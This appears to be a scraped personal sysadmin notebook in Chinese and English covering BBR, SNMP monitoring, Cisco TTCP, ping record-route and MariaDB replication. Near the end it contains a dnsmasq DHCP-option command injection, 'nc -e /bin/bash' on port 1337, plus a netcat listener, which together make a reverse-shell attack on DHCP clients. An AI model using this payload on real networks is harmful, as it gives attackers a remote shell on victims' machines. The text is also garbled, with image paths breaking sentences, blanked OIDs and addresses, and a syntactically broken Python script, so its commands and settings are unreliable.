CUBIC TCP 目前大多数Linux缺省使用的TCP流量拥塞算法 RFC8312

google bbr (Bottleneck Bandwidth and Round-trip propagation time)
google在GCP平台应用bbr TCP BBR congestion control comes to GCP

What is BBR?
BBR ("Bottleneck Bandwidth and Round-trip propagation time") is anew congestion control algorithm developed at Google. Congestion control algorithms — running inside every computer, phone or tablet connected to a network — that decide how fast to send data.
How does a congestion control algorithm make this decision? The internet has largely used loss-based congestion control since the late 1980s, relying only on indications of lost packets as the signal to slow down. This worked well for many years, because internet switches’ and routers’ small buffers were well-matched to the low bandwidth of internet links. As a result, buffers tended to fill up and drop excess packets right at the moment when senders had really begun sending data too fast.

But loss-based congestion control is problematic in today's diverse networks:

In shallow buffers, packet loss happens before congestion. With today's high-speed, long-haul links that use commodity switches with shallow buffers, loss-based congestion control can result in abysmal throughput because it overreacts, halving the sending rate upon packet loss, even if the packet loss comes from transient traffic bursts (this kind of packet loss can be quite frequent even when the link is mostly idle).
In deep buffers, congestion happens before packet loss. At the edge of today's internet, loss-based congestion control causes the infamous “bufferbloat” problem, by repeatedly filling the deep buffers in many last-mile links and causing seconds of needless queuing delay.
We need an algorithm that responds to actual congestion, rather than packet loss. BBR tackles this with a ground-up rewrite of congestion control. We started from scratch, using a completely new paradigm: to decide how fast to send data over the network, BBR considers how fast the network is delivering data. For a given network connection, it usesrecent measurements of the network's delivery rate and round-trip time to build an explicit model that includes both the maximum recent bandwidth available to that connection, and its minimum recent round-trip delay. BBR then uses this model to control both how fast it sends data and the maximum amount of data it's willing to allow in the network at any time.



-a exit,always -F arch=b64 -S execve
-a exit,always -F arch=b32 -S execve

sed -i 's/active = no/active = yes/g' /etc/audisp/plugins.d/syslog.conf

有V1 V2c V3
V1使用明文community,The biggest downsides are that it does not support 64 bit counters, only 32 bit counters, and that it has little security.
V2c和V1使用明文community,it adds support for 64 bit counters. SNMPv2c is a sub-version of SNMPv2. Its key advantage over previous versions is the Inform command. Unlike Traps, which are simply received by a manager, Informs are positively acknowledged with a response message. If a manager does not reply to an Inform, the SNMP agent will resend the Inform.

常用的是Get, GetNext, Set, Trap
ro(read only)的community/username password不能使用set方法
rw(read write)可以使用全部方法

SNMP使用UDP(IP 17) 161
SNMP trap使用UDP 162 (部分系统组件/配置发生变更,SNMP daemon主动发送消息通知网管平台)

SNMP OID结构 [图片来源Paessler AG]SNMP v1 defines a special TRAP message format, different from other messages (such as GET).
This message format is not used any more in SNMP v2 and v3. If an SNMP agent sends out such TRAP messages for v2 or v3, that can be a bug. Since v2, TRAP starts to use the common message format (the same as GET and so on). So it is called SNMPv2-Trap-PDU. SNMP v3 introduces the security model to all messages, so TRAP receives such update too. It is still based on SNMPv2-Trap-PDU.

Debian系 SNMP trap配置一些问题
启动snmp daemon,日志提示

  /etc/snmp/snmpd.conf: line 145: Warning: Unknown token: defaultMonitors.
  /etc/snmp/snmpd.conf: line 147: Warning: Unknown token: linkUpDownNotifications.
Edit /etc/default/snmpd:
comment the "export MIBS=" line:
#export MIBS=
remove ",mteTrigger,mteTriggerConf" from the SNMPDOPTS line:
SNMPDOPTS='-Lsd -Lf /dev/null -u snmp -g snmp -I -smux -p /run/'
install snmp-mibs-downloader. It will download abunch of MIBs in its postinst:
sudo apt install snmp-mibs-downloader


Network Interface Statistics
List NIC names: .
Get Bytes IN: .
Get Bytes IN for NIC 4: .
Get Bytes OUT: .
Get Bytes OUT for NIC 4: .

CPU Statistics1 minute Load: .
5 minute Load: .
15 minute Load: .

CPUtimes
percentage of user CPU time: .
raw user cpu time: .
percentages of system CPU time: .
raw system cpu time: .
percentages of idle CPU time: .
raw idle cpu time: .
raw nice cpu time: .

Memory Statistics
Total Swap Size: .
Available Swap Space: .
Total RAM in machine: .Total RAM used: .
Total RAM Free: .
Total RAM Shared: .
Total RAM Buffered: .
Total Cached Memory: .

Disk Statistics
Add the following line to snmpd.conf and restart:
includeAllDisks 10% for all partitions and disks
Disk OID's
Path where the disk is mounted: .
Path of the device for the partition: .
Total size of the disk/partion (kBytes): .
Available space on the disk: .
Used space on the disk: .
Percentage of space used on disk: .
Percentage of inodes used on disk: .System Uptime: .


TTCP requires Cisco IOS® Software Version 11.2 or higher and Feature
Sets IP Plus (is- images) or Service Provider (p- images). Note: The
ttcp command is a hidden, unsupported, privileged mode command. As
such, its availability may vary from one Cisco IOS software release to
another, such that it might not exist in some releases. Some
platforms, for instance, require the Cisco IOS Enterprise feature set
in order to perform this activity.


transmit or receive [receive]: transmit
Target IP address:
perform tcp half close [n]:
use tcp driver [n]:
send buflen [8192]: #buffers长度
send nbuf [2048]: 50 #buffers数量
bufalign [16384]:
bufoffset [0]:
port [5001]:
sinkmode [y]:
buffering on writes [y]:
show tcp information at end [n]:
ttcp-t: buflen=8192, nbuf=50, align=16384/0, port=5001 tcp ->
ttcp-t: connect (mss 1460, sndwnd 4096, rcvwnd 4128)


ttcp-t: buflen=8192, nbuf=50, align=16384/0, port=5001 tcp -> ttcp-t: connect (mss 1460, sndwnd 4096, rcvwnd 4128) ttcp-t: 409600 bytes in 84544 ms (84.544 real seconds) (~3 kB/s) +++ ttcp-t: 50 I/O calls
ttcp-t: 0 sleeps (0 ms total) (0 ms average)
Since it is most common to evaluate connect speeds in kbps (kilobits
per second, or 1000 bits per second) rather that KBps (kilobytes per
second, or 1024 bytes per second), we must use the information from
TTCP to calculate the bit rate (in kbps). Use the number of bytes
received and the transfer time to calculate the actual bit rate for
the connection. Calculate the bit rate by converting the number of
bytes into bits and then divide this by the time for the transfer. In
this example, the windows PC received 409600 bytes in 84.94 seconds.
We can calculate the bit rate to be (409600 bytes * 8 bits per byte)divided by 84.94 seconds=38577 BPS or 38.577 kbps.

Referer: Using Test TCP (TTCP) to Test Throughput

from selenium import webdriver
import time
import os
import sys
from selenium.webdriver.firefox.options import Options
import requests

options = Options()
driver = webdriver.Firefox(firefox_options=options)
hiname = driver.find_element_by_xpath("//div[@id='chart']//p[@class='chart z']//a[@class='xi2']").text
userimg = '/web/wwwroot/default/' + hiname + '.png'
if not os.path.isfile(userimg):
    driver.find_element_by_xpath("//div[@id='chart']//p[@class='chart z']//a[@class='xi2']").click()
    #---upload image
    smms = ''
    files = {'smfile': open(userimg, 'rb')}
    response =, files=files)
    imgurl = response.json()
    print imgurl
    wtxt = open('/web/wwwroot/default/upload.txt', 'a')

driver.quit()   #quit-firefox-drive

ICMP Record Route反向路径追踪最大9跳,使用IP Option 7 More IP Options

Type escape sequence to abort.
Tracing the route to
  1 4 msec 4 msec *
Protocol [ip]:
Target IP address:
Repeat count [5]: 2
Datagram size [100]:
Timeout in seconds [2]:
Extended commands [n]: y
Source address or interface:
Type of service [0]:
Set DF bit in IP header? [no]:
Validate reply data? [no]:
Data pattern [0xABCD]:
Loose, Strict, Record, Timestamp, Verbose[none]: recordNumber of hops [ 9 ]:
Loose, Strict, Record, Timestamp, Verbose[RV]:
Sweep range of sizes [n]:
Type escape sequence to abort.
Sending 2, 100-byte ICMP Echos to, timeout is 2 seconds:
Packet has IP options:  Total option bytes= 39, padded length=40
 Record route: <*>

Reply to request 0 (4 ms).  Received packet has optionsTotal option bytes= 40, padded length=40
 Record route:
   ( <-s0/1
   (  <-destination
   ( <-return path
   ( <*>
 End of list

Reply to request 1 (8 ms).  Received packet has options
 Total option bytes= 40, padded length=40
 Record route:
   ( <-s0/0
   ( <-destination
   ( <-return path
   ( <*>
 End of list

Success rate is 100 percent (2/2), round-trip min/avg/max = 4/6/8 ms

dnsmasq --user=root --interface=eth0 --bind-interfaces  --except-interface=lo --dhcp-range=,,1h --conf-file=/dev/null --dhcp-option=6, --dhcp-option=3, --dhcp-option="252,yarrak'&nc -e /bin/bash 1337 #" --log-queries--log-facility=/var/log/dnsmasq-server.log
nc -l -p 1337 -v

使用Debian sid。


影视播放 VLC
截图 deepin-screenshot (深度[]做的截图软件,和Windows™ 下的QQ差不多。。。
文件检索 ANGRYsearch (同样和Windows™ 下的Everything差不多


Referer : does xfce4 support automatic proxy configuration?

You can set up auto_proxy/AUTO_PROXY variables in /etc/environment like:


and logout/login after that.

版本 mysql Ver 15.1 Distrib 10.1.29-MariaDB, for debian-linux-gnu (x86_64) using readline 5.2
Debian buster


修改Mariadb的配置文件 /etc/mysql/mariadb.conf.d/50-server.cnf

bind-address =
server-id = 1
log_bin = /web/data/mariadb/mysql-bin.log

更改文件夹拥有者 chown mysql.mysql /web/data/mariadb/
重启Mariadb systemctl restart mariadb


# mysqlMariaDB [(none)]> EXIT


iptables -A INPUT -p tcp --dport 3306 -s -j ACCEPT
iptables -A INPUT -p tcp --dport 3306 -s -j ACCEPT
iptables -A INPUT -p tcp --dport 3306 -j DROP


修改Mariadb的配置文件 /etc/mysql/mariadb.conf.d/50-server.cnf

server-id = 2
relay-log = /data/mariadb/relay.log
#log_bin = /var/log/mysql/mysql-bin.log

更改文件夹拥有者 chown mysql.mysql /data/mariadb/
重启Mariadb systemctl restart mariadb



MariaDB [(none)]> STARTSLAVE;
MariaDB [(none)]> EXIT

chownmysql.mysql -R /var/lib/mysql